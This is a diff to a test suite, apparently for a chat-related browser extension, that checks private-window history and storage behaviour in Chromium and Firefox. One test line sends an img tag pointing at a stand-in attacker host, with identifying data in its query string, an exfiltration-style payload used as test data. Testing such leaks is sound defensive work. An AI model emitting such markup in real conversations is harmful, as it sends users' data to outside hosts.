@@ -15,6 +15,8 @@ const names = findFirefox() ? (['chromium', 'firefox'] as const) : (['chromium']
 
 describe.each(names)('a private window in %s', (name) => {
   let lab: ChatLab;
+  /** In an ordinary window. Opened first: later Firefox would open it in the private one, which is on top. */
+  let open: ChatTab;
   let tab: ChatTab;
 
   beforeAll(async () => {
@@ -22,6 +24,7 @@ describe.each(names)('a private window in %s', (name) => {
       isAllowedInPrivate: true,
     });
     await lab.change({ keepHistory: true });
+    open = await lab.openChat(`${chat}/c/0`);
     tab = await lab.openPrivateChat(`${chat}/c/1`);
   });
   afterAll(() => lab.close());
@@ -81,12 +84,10 @@ describe.each(names)('a private window in %s', (name) => {
     expect(await lab.stored('local', 'settings')).toMatchObject({ allowedHosts: [] });
 
     // An attempt outside of private windows is written; when it stands there, the private ones would, too.
-    const open = await lab.openChat(`${chat}/c/4`);
     await open.say(`<img src="${attacker}/written.png?for=Jordan+Example+482913">`);
     const history = await waitUntil(written, (text) => text.includes('written.png?'));
     expect(history).not.toContain('private.png');
     expect(history).not.toContain('unwritten.png');
-    await open.close();
   });
 
   it('leaves nothing in session storage when it is closed', async () => {
